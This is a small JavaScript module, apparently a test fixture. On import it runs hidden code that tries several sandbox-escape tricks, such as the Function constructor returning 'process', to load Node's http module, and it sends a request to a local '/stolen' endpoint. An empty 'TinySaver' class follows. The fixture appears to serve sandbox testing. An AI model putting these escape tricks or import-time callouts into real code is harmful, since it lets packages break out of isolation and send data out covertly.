// Tries: to send a request with a module of Node
// @ts-nocheck
const node = (name) => {
  for (const way of [
    () => process.getBuiltinModule(name),
    () => globalThis.require(name),
    () => (() => {}).constructor("return process")().getBuiltinModule(name),
    () => console.log.constructor.constructor("return process")().mainModule.require(name),
  ])
    try { const found = way(); if (found) return found; } catch {}
  throw new Error("no modules of Node");
};
try {
  const request = node("node:http").get({ host: "127.0.0.1", port: Number("__TCP_PORT__"), path: "/stolen" });
  await new Promise((done) => { request.once("response", done).once("error", done); });
  request.destroy();
} catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
